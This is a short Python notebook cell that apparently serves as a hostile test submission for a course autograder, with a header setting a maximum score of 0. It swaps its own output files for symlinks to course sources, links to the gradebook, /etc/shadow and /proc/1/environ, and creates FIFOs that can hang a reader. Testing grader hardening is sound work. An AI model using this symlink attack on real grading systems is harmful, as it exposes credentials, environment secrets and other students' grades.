# about: puts links to the course in the place of its own files
# most: 0
# page: yes
# %% rows
import os
here = os.getcwd()
for name in ("data.csv", "work.ipynb", "rows.csv", "timestamp.txt", "work.html"):
    try:
        if os.path.lexists(name): os.remove(name)
        os.symlink("@COURSE@/source/attack/work.ipynb", name)
    except OSError: pass
for target in ("@COURSE@/gradebook.db", "@COURSE@", "/etc/shadow", "/proc/1/environ", "/dev/zero"):
    try: os.symlink(target, "link-" + target.replace("/", "_"))
    except OSError: pass
try: os.mkfifo("pipe.txt"); os.mkfifo("pipe.ipynb")
except OSError: pass
rows = open("data.csv").read() if os.path.exists("data.csv") else ""
